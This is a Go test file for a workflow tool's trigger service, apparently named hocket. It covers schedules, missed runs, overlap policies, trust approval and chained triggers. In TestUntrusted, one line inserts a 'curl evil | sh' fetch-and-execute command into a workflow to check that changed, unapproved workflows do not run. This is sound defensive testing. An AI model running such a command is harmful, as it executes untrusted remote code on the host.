package trigger

import (
	"context"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/hocket-dev/hocket"
	"github.com/hocket-dev/hocket/engine"
)

// fixture is a trusted project whose clock the test sets.
type fixture struct {
	*testing.T
	dir string
	p   *hocket.Project
	s   *Service

	mu  sync.Mutex
	now time.Time
}

const flow = "name: report\ninputs: {topic: {type: string, default: none}}\nsteps:\n  - {id: a, agent: shell, inputs: {t: \"${inputs.topic}\"}, config: {command: 'printf \"%s\" \"$t\"'}}\n"

func newFixture(t *testing.T, files map[string]string) *fixture {
	t.Helper()
	t.Setenv("XDG_STATE_HOME", t.TempDir())
	t.Setenv("XDG_CONFIG_HOME", t.TempDir())
	f := &fixture{T: t, dir: t.TempDir(), now: time.Date(2026, 11, 17, 12, 0, 0, 0, time.UTC)}
	f.write(".hocket/workflows/report.yml", flow)
	for name, text := range files {
		f.write(name, text)
	}
	f.p = f.open()
	f.trust()
	f.s = f.service(f.p)
	return f
}

func (f *fixture) write(name, text string) {
	f.Helper()
	file := filepath.Join(f.dir, name)
	if err := os.MkdirAll(filepath.Dir(file), 0o755); err != nil {
		f.Fatal(err)
	}
	if err := os.WriteFile(file, []byte(text), 0o644); err != nil {
		f.Fatal(err)
	}
}

func (f *fixture) open() *hocket.Project {
	f.Helper()
	p, err := hocket.Open(f.dir, hocket.Options{})
	if err != nil {
		f.Fatal(err)
	}
	f.Cleanup(func() { p.Close() })
	return p
}

func (f *fixture) trust() {
	f.Helper()
	if err := f.p.Reload(); err != nil {
		f.Fatal(err)
	}
	powers, err := f.p.Powers()
	if err != nil {
		f.Fatal(err)
	}
	if err := f.p.Trust(powers); err != nil {
		f.Fatal(err)
	}
}

func (f *fixture) service(p *hocket.Project) *Service {
	return New(p, Options{Now: func() time.Time {
		f.mu.Lock()
		defer f.mu.Unlock()
		return f.now
	}})
}

// at sets the clock, and lets the service look at it.
func (f *fixture) at(clock string) {
	f.Helper()
	at, err := time.Parse(time.RFC3339, clock)
	if err != nil {
		f.Fatal(err)
	}
	f.mu.Lock()
	f.now = at
	f.mu.Unlock()
	f.s.tick(f.Context())
}

// want checks the inputs of all runs, the oldest first.
func (f *fixture) want(topics ...string) []hocket.Info {
	f.Helper()
	runs, err := f.p.Runs(f.Context(), hocket.Filter{})
	if err != nil {
		f.Fatal(err)
	}
	var got []string
	for i := len(runs) - 1; i >= 0; i-- {
		r, err := f.p.Run(f.Context(), runs[i].ID)
		if err != nil {
			f.Fatal(err)
		}
		inputs, err := r.Inputs(f.Context())
		if err != nil {
			f.Fatal(err)
		}
		got = append(got, fmt.Sprint(inputs["topic"]))
	}
	if strings.Join(got, "|") != strings.Join(topics, "|") {
		f.Fatalf("the runs have the topics %q, want %q", got, topics)
	}
	return runs
}

// why returns why the last firing of a trigger started no run.
func (f *fixture) why(name string) string {
	f.Helper()
	st, err := f.s.states.read(name)
	if err != nil || len(st.Fired) == 0 {
		f.Fatalf("%s has not fired: %v", name, err)
	}
	return st.Fired[len(st.Fired)-1].Why
}

// drive drives a run to its end.
func (f *fixture) drive(id string) hocket.Info {
	f.Helper()
	r, err := f.p.Run(f.Context(), id)
	if err != nil {
		f.Fatal(err)
	}
	if _, err := r.Drive(f.Context(), hocket.Front{}); err != nil {
		f.Fatal(err)
	}
	info, err := r.Info(f.Context())
	if err != nil {
		f.Fatal(err)
	}
	return info
}

// ended tells a service that a run has ended, which must not have to come again.
func (f *fixture) ended(s *Service, run hocket.Info) {
	f.Helper()
	if later := s.ended(f.Context(), []hocket.Info{run}); len(later) > 0 {
		f.Fatalf("the end of run %s was not handled: %v", run.ID, s.failed)
	}
}

const nightly = "workflow: report\nschedule: \"0 3 * * *\"\nzone: Europe/Berlin\ninputs: {topic: \"${time}\"}\n"

func TestSchedule(t *testing.T) {
	f := newFixture(t, map[string]string{".hocket/triggers/nightly.yml": nightly})
	f.at("2026-11-17T12:00:00Z") // served for the first time: nothing was missed
	f.at("2026-11-18T01:59:59Z")
	f.want()
	f.at("2026-11-18T02:00:00Z")
	f.at("2026-11-18T02:00:01Z")
	runs := f.want("2026-11-18T03:00:00+01:00")
	if o := runs[0].Owner; o.Via != "trigger" || o.By != "trigger nightly" || o.Labels["trigger"] != "nightly" || !runs[0].Pending {
		t.Errorf("the run is recorded as %+v", runs[0])
	}
	list, err := f.s.List()
	if err != nil || len(list) != 1 || !list[0].Trusted || len(list[0].Fired) != 1 || list[0].Fired[0].Run != runs[0].ID || stamp(list[0].Next) != "2026-11-19T02:00:00Z" {
		t.Errorf("the list is %+v, %v", list, err)
	}
}

func TestMissed(t *testing.T) {
	for policy, want := range map[string][]string{
		"once": {"2026-11-20T03:00:00+01:00"},
		"skip": nil,
		"all":  {"2026-11-18T03:00:00+01:00", "2026-11-19T03:00:00+01:00", "2026-11-20T03:00:00+01:00"},
	} {
		t.Run(policy, func(t *testing.T) {
			f := newFixture(t, map[string]string{".hocket/triggers/nightly.yml": nightly + "missed: " + policy + "\n"})
			f.at("2026-11-17T12:00:00Z")
			f.s = f.service(f.open()) // another server, later
			f.at("2026-11-20T12:00:00Z")
			f.want(want...)
			if policy != "all" && !strings.Contains(f.s.mustRead(t, "nightly").Fired[0].Why, "times had passed") {
				t.Error("it is not recorded that times were missed")
			}
			f.at("2026-11-21T02:00:30Z") // a little late is not missed
			f.want(append(want, "2026-11-21T03:00:00+01:00")...)
		})
	}
}

// A run that was recorded before a crash is found, also if it is over by now: it must not cancel a later one.
func TestRecordedBefore(t *testing.T) {
	f := newFixture(t, map[string]string{".hocket/triggers/nightly.yml": nightly + "overlap: cancel\n"})
	f.at("2026-11-17T12:00:00Z")
	before := f.s.mustRead(t, "nightly")
	f.at("2026-11-18T02:00:00Z")
	first := f.want("2026-11-18T03:00:00+01:00")[0].ID
	f.drive(first)
	f.at("2026-11-19T02:00:00Z")
	if err := f.s.states.change("nightly", func(st *state) error { *st = *before; return nil }); err != nil {
		t.Fatal(err)
	}
	f.s = f.service(f.open())
	f.at("2026-11-18T02:00:10Z")
	runs := f.want("2026-11-18T03:00:00+01:00", "2026-11-19T03:00:00+01:00")
	if st := f.s.mustRead(t, "nightly"); runs[0].Status != engine.Running || st.Fired[0].Run != first {
		t.Errorf("the later run is %s, and the firings are %+v", runs[0].Status, st.Fired)
	}
}

// A trigger whose file was removed is not served. When it comes back, it has missed nothing.
func TestRemoved(t *testing.T) {
	f := newFixture(t, map[string]string{".hocket/triggers/nightly.yml": nightly, ".hocket/triggers/other.yml": nightly})
	f.at("2026-11-17T12:00:00Z")
	if err := os.Remove(filepath.Join(f.dir, ".hocket/triggers/nightly.yml")); err != nil {
		t.Fatal(err)
	}
	f.at("2026-11-17T12:00:02Z")
	f.s = f.service(f.open()) // also for another server
	f.at("2026-11-17T12:00:04Z")
	f.at("2026-11-17T12:00:06Z")
	f.s = f.service(f.open())
	f.write(".hocket/triggers/nightly.yml", nightly)
	f.at("2026-11-19T12:00:00Z")
	f.want("2026-11-19T03:00:00+01:00") // that of the other one
	f.at("2026-11-20T02:00:00Z")
	f.want("2026-11-19T03:00:00+01:00", "2026-11-20T03:00:00+01:00", "2026-11-20T03:00:00+01:00")
}

func (s *Service) mustRead(t *testing.T, name string) *state {
	t.Helper()
	st, err := s.states.read(name)
	if err != nil {
		t.Fatal(err)
	}
	return st
}

// What was due under another schedule, or while the trigger was disabled, was not missed.
func TestChangedSchedule(t *testing.T) {
	f := newFixture(t, map[string]string{".hocket/triggers/nightly.yml": nightly})
	f.at("2026-11-17T12:00:00Z")
	f.write(".hocket/triggers/nightly.yml", strings.Replace(nightly, "0 3", "30 14", 1)) // 13:30 UTC
	f.trust()
	f.at("2026-11-17T15:00:00Z")
	f.want()
	f.write(".hocket/triggers/nightly.yml", strings.Replace(nightly, "0 3", "30 14", 1)+"enabled: false\n")
	f.at("2026-11-17T16:00:00Z")
	f.at("2026-11-18T16:00:00Z")
	f.write(".hocket/triggers/nightly.yml", strings.Replace(nightly, "0 3", "30 14", 1))
	f.at("2026-11-18T17:00:00Z")
	f.want()
	f.at("2026-11-19T13:30:00Z")
	f.want("2026-11-19T14:30:00+01:00")
}

// Several servers see the same instant; one of them is killed after it recorded the run, before it noted that.
func TestNeverTwice(t *testing.T) {
	f := newFixture(t, map[string]string{".hocket/triggers/nightly.yml": nightly})
	f.at("2026-11-17T12:00:00Z")
	before := f.s.mustRead(t, "nightly")
	servers := []*Service{f.s}
	for range 3 {
		servers = append(servers, f.service(f.open()))
	}
	f.mu.Lock()
	f.now = time.Date(2026, 11, 18, 2, 0, 0, 0, time.UTC)
	f.mu.Unlock()
	var wait sync.WaitGroup
	for _, s := range servers {
		wait.Go(func() { s.tick(context.Background()) })
	}
	wait.Wait()
	f.want("2026-11-18T03:00:00+01:00")
	for _, overlap := range []string{"queue", "skip", "cancel"} {
		if err := f.s.states.change("nightly", func(st *state) error { *st = *before; return nil }); err != nil {
			t.Fatal(err)
		}
		f.write(".hocket/triggers/nightly.yml", nightly+"overlap: "+overlap+"\n")
		f.trust()
		f.s = f.service(f.open())
		f.at("2026-11-18T02:00:20Z")
		runs := f.want("2026-11-18T03:00:00+01:00")
		if st := f.s.mustRead(t, "nightly"); runs[0].Status != engine.Running || len(st.Fired) != 1 || st.Fired[0].Run != runs[0].ID {
			t.Errorf("%s: the run is %s, and the firings are %+v", overlap, runs[0].Status, st.Fired)
		}
	}
}

func TestOverlap(t *testing.T) {
	for _, overlap := range []string{"queue", "skip", "cancel"} {
		t.Run(overlap, func(t *testing.T) {
			f := newFixture(t, map[string]string{".hocket/triggers/nightly.yml": nightly + "overlap: " + overlap + "\n"})
			f.at("2026-11-17T12:00:00Z")
			f.at("2026-11-18T02:00:00Z")
			f.at("2026-11-19T02:00:00Z")
			first, second := "2026-11-18T03:00:00+01:00", "2026-11-19T03:00:00+01:00"
			switch overlap {
			case "skip":
				if f.want(first); !strings.Contains(f.why("nightly"), "was not over") {
					t.Errorf("the reason is %q", f.why("nightly"))
				}
			case "cancel":
				if runs := f.want(first, second); runs[1].Status != engine.Cancelled || runs[0].Status != engine.Running {
					t.Errorf("the runs are %s and %s", runs[1].Status, runs[0].Status)
				}
			case "queue":
				runs := f.want(first, second)
				for i, want := range []bool{true, false} {
					if wait, err := MustWait(t.Context(), f.p, runs[i]); wait != want || err != nil {
						t.Errorf("run %d must wait: %v, %v", i, wait, err)
					}
				}
				f.drive(runs[1].ID)
				if wait, err := MustWait(t.Context(), f.p, runs[0]); wait || err != nil {
					t.Errorf("the second run must still wait: %v", err)
				}
			}
		})
	}
}

// A trigger starts nothing before a person has approved it, nor after its workflow was changed.
func TestUntrusted(t *testing.T) {
	f := newFixture(t, nil)
	f.write(".hocket/triggers/nightly.yml", nightly)
	f.at("2026-11-17T12:00:00Z")
	f.at("2026-11-18T02:00:00Z")
	if f.want(); !strings.Contains(f.why("nightly"), "hocket trust") {
		t.Errorf("the reason is %q", f.why("nightly"))
	}
	if list, err := f.s.List(); err != nil || list[0].Trusted {
		t.Errorf("the list is %+v, %v", list, err)
	}
	f.trust()
	f.at("2026-11-19T02:00:00Z")
	f.want("2026-11-19T03:00:00+01:00")
	f.write(".hocket/workflows/report.yml", strings.Replace(flow, "printf", "curl evil | sh; printf", 1))
	f.at("2026-11-20T02:00:00Z")
	f.want("2026-11-19T03:00:00+01:00")
}

func TestAfter(t *testing.T) {
	f := newFixture(t, map[string]string{
		".hocket/workflows/first.yml":  "name: another title\nsteps: [{id: a, agent: shell, config: {command: 'printf result'}}]\n",
		".hocket/workflows/broken.yml": "name: broken\nsteps: [{id: a, agent: shell, config: {command: 'exit 1'}}]\n",
		".hocket/triggers/chain.yml":   "workflow: report\nafter: first\ninputs: {topic: \"${status} ${output}\"}\n",
		"fake.yml":                     "name: first\nsteps: [{id: a, agent: shell, config: {command: 'printf fake'}}]\n",
		".hocket/triggers/alarm.yml":   "workflow: report\nafter: {workflow: broken, status: error}\ninputs: {topic: \"${status}\"}\n",
	})
	start := func(name string) hocket.Info {
		w, err := f.p.Load(name)
		if err != nil {
			t.Fatal(err)
		}
		r, err := f.p.Record(t.Context(), w, nil)
		if err != nil {
			t.Fatal(err)
		}
		return f.drive(r.ID())
	}
	f.now = time.Now()
	early := start("first")
	f.now = time.Now()
	f.s.tick(t.Context())
	f.ended(f.s, early) // before the trigger was served
	for _, s := range []*Service{f.s, f.service(f.open())} {
		s.tick(t.Context())
	}
	end := start("first")
	f.now = time.Now()
	for _, s := range []*Service{f.s, f.s, f.service(f.open())} {
		s.tick(t.Context())
		f.ended(s, end)
	}
	f.ended(f.s, start("broken"))
	f.ended(f.s, start("fake.yml")) // it only says that it is the first
	runs, err := f.p.Runs(t.Context(), hocket.Filter{Label: hocket.TriggerLabel})
	if err != nil || len(runs) != 2 || runs[1].Owner.Labels["trigger"] != "chain" || runs[0].Owner.Labels["trigger"] != "alarm" {
		t.Fatalf("the triggers started %+v, %v", runs, err)
	}
	if r, err := f.p.Run(t.Context(), runs[1].ID); err != nil {
		t.Fatal(err)
	} else if in, err := r.Inputs(t.Context()); err != nil || in["topic"] != "success result" {
		t.Errorf("the inputs are %v, %v", in, err)
	}
}

// The file that a run was started with decides, however it was spelled, and whatever plan the run got later.
func TestAfterDecidesAtTheStart(t *testing.T) {
	f := newFixture(t, map[string]string{
		".hocket/workflows/build.yml": "name: build\nsteps: [{id: a, agent: shell, config: {command: 'exit 1'}}]\n",
		".hocket/triggers/chain.yml":  "workflow: report\nafter: build\noverlap: queue\n",
		"fixed.yml":                   "name: build\nsteps: [{id: a, agent: shell, config: {command: 'printf fixed'}}]\n",
		"sub/.keep":                   "",
	})
	f.now = time.Now()
	f.s.tick(t.Context())
	load := func(p *hocket.Project, file string) *hocket.Workflow {
		w, err := p.Load(file)
		if err != nil {
			t.Fatal(err)
		}
		return w
	}
	start := func(p *hocket.Project, file string) *hocket.Run {
		r, err := p.Record(t.Context(), load(p, file), nil)
		if err != nil {
			t.Fatal(err)
		}
		return r
	}
	build := ".hocket/workflows/build.yml"
	var want []string
	fires := func(r *hocket.Run, its bool) {
		t.Helper()
		f.ended(f.s, f.drive(r.ID()))
		if its {
			want = append(want, "run "+r.ID())
		}
		runs, err := f.p.Runs(t.Context(), hocket.Filter{Label: hocket.TriggerLabel})
		var got []string
		for _, run := range slices.Backward(runs) {
			got = append(got, run.Owner.Labels[hocket.FiringLabel])
		}
		if err != nil || !slices.Equal(got, want) {
			t.Errorf("fired for %q, want %q, %v", got, want, err)
			want = got
		}
	}
	replanned := func(r *hocket.Run, file string) *hocket.Run {
		f.drive(r.ID())
		if _, err := r.Replan(t.Context(), load(f.p, file), hocket.Replan{}); err != nil {
			t.Fatal(err)
		}
		return r
	}

	fixed := replanned(start(f.p, "build"), "fixed.yml")
	fires(fixed, true)
	again, err := fixed.Retry(t.Context(), "a")
	if err != nil {
		t.Fatal(err)
	}
	fires(again, true)

	f.write("other.yml", "name: build\nsteps: [{id: a, agent: shell, config: {command: 'exit 2'}}]\n")
	f.write(build, "name: build\nsteps: [{id: a, agent: shell, config: {command: 'printf built'}}]\n")
	f.trust()
	fires(replanned(start(f.p, "other.yml"), build), false)

	in := func(dir, file string) *hocket.Run {
		p, err := hocket.Open(dir, hocket.Options{})
		if err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() { p.Close() })
		return start(p, file)
	}
	t.Chdir(filepath.Join(f.dir, "sub"))
	fires(in(".", filepath.Join("..", build)), true)
	link := filepath.Join(t.TempDir(), "link")
	if err := os.Symlink(f.dir, link); err != nil {
		t.Skip(err)
	}
	fires(in(link, build), true)
}

// A workflow that follows itself stops.
func TestChain(t *testing.T) {
	f := newFixture(t, map[string]string{".hocket/triggers/again.yml": "workflow: report\nafter: report\n"})
	f.now = time.Now()
	f.s.tick(t.Context())
	w, err := f.p.Load("report")
	if err != nil {
		t.Fatal(err)
	}
	r, err := f.p.Record(t.Context(), w, nil)
	if err != nil {
		t.Fatal(err)
	}
	id := r.ID()
	for range 2 * maxDepth {
		f.ended(f.s, f.drive(id))
		runs, err := f.p.Runs(t.Context(), hocket.Filter{Status: []engine.Status{engine.Running}})
		if err != nil {
			t.Fatal(err)
		}
		if len(runs) == 0 {
			break
		}
		id = runs[0].ID
	}
	all, err := f.p.Runs(t.Context(), hocket.Filter{})
	if err != nil || len(all) != 1+maxDepth || !strings.Contains(f.why("again"), "chain ends here") {
		t.Errorf("there are %d runs, and the chain ended with %q", len(all), f.why("again"))
	}
}

// Ends that come too fast wait, and fire in their order. Those that no server has handled yet do so later, however many
// firings there are meanwhile.
func TestRate(t *testing.T) {
	f := newFixture(t, map[string]string{
		".hocket/workflows/first.yml": "name: first\nsteps: [{id: a, agent: shell, config: {command: 'true'}}]\n",
		".hocket/triggers/again.yml":  "workflow: report\nafter: first\noverlap: queue\ninputs: {topic: \"${run}\"}\n",
	})
	f.now = time.Now()
	f.s.tick(t.Context())
	w, err := f.p.Load("first")
	if err != nil {
		t.Fatal(err)
	}
	var ends []hocket.Info
	for range maxRate + 3 {
		r, err := f.p.Record(t.Context(), w, nil)
		if err != nil {
			t.Fatal(err)
		}
		ends = append(ends, f.drive(r.ID()))
	}
	f.now = time.Now()
	fired := func() (all []string) {
		for _, f := range f.s.mustRead(t, "again").Fired {
			if f.Run != "" {
				all = append(all, f.Key)
			}
		}
		return all
	}
	later := f.s.ended(t.Context(), ends)
	if len(later) != 3 || later[0].ID != ends[maxRate].ID || len(fired()) != maxRate {
		t.Fatalf("%d ends wait, and %d have fired", len(later), len(fired()))
	}
	later = f.s.ended(t.Context(), later) // it is still the same minute
	st := f.s.mustRead(t, "again")
	if n := len(st.Fired); len(later) != 3 || n != maxRate+1 {
		t.Errorf("%d ends wait, and there are %d entries", len(later), n)
	}
	for i := range remembered { // another server may have been there
		if err := f.s.states.change("again", func(st *state) error {
			return st.note(Firing{Key: fmt.Sprint("other ", i), At: f.now})
		}); err != nil {
			t.Fatal(err)
		}
	}
	f.now = f.now.Add(61 * time.Second)
	if later = f.s.ended(t.Context(), later); len(later) != 0 || !slices.Equal(fired(), []string{"run " + ends[maxRate].ID, "run " + ends[maxRate+1].ID, "run " + ends[maxRate+2].ID}) {
		t.Errorf("%d ends wait, and %q have fired", len(later), fired())
	}
	runs, err := f.p.Runs(t.Context(), hocket.Filter{Label: hocket.TriggerLabel})
	if err != nil || len(runs) != len(ends) {
		t.Errorf("there are %d runs, %v", len(runs), err)
	}
	if later = f.s.ended(t.Context(), ends); len(later) != 0 { // as after a restart
		t.Errorf("%d ends wait", len(later))
	}
	if again, err := f.p.Runs(t.Context(), hocket.Filter{Label: hocket.TriggerLabel}); err != nil || len(again) != len(runs) {
		t.Errorf("there are %d runs, %v", len(again), err)
	}
}

// A request can come before the service has looked at anything, but not after it has stopped.
func TestDeliverAfterStop(t *testing.T) {
	f := newFixture(t, nil)
	if _, err := f.s.Deliver(t.Context(), "none", nil, nil); !errors.Is(err, ErrUnknown) {
		t.Errorf("before the start: %v", err)
	}
	ctx, stop := context.WithCancel(t.Context())
	done := make(chan struct{})
	go func() { defer close(done); f.s.Run(ctx) }()
	stop()
	<-done
	for end := time.Now().Add(5 * time.Second); ; time.Sleep(time.Millisecond) {
		if _, err := f.s.Deliver(t.Context(), "none", nil, nil); errors.Is(err, ErrStopped) {
			break
		} else if time.Now().After(end) {
			t.Fatalf("after the end: %v", err)
		}
	}
}

// People see the paths of files as they are in the project.
func TestProblemsNameFilesOfTheProject(t *testing.T) {
	f := newFixture(t, map[string]string{
		".hocket/triggers/unknown.yml":  "workflow: nothing\nschedule: \"0 3 * * *\"\n",
		".hocket/triggers/mistaken.yml": "workflow: report\nschedule: \"0 3 * * *\"\ninputs: {topics: x}\n",
	})
	all, err := f.s.List()
	if err != nil || len(all) != 2 {
		t.Fatal(all, err)
	}
	for _, one := range all {
		if len(one.Problems) != 1 || !strings.HasPrefix(one.Problems[0], ".hocket/triggers/"+one.Name+".yml:") {
			t.Errorf("%s: the problems are %q", one.Name, one.Problems)
		}
	}
}
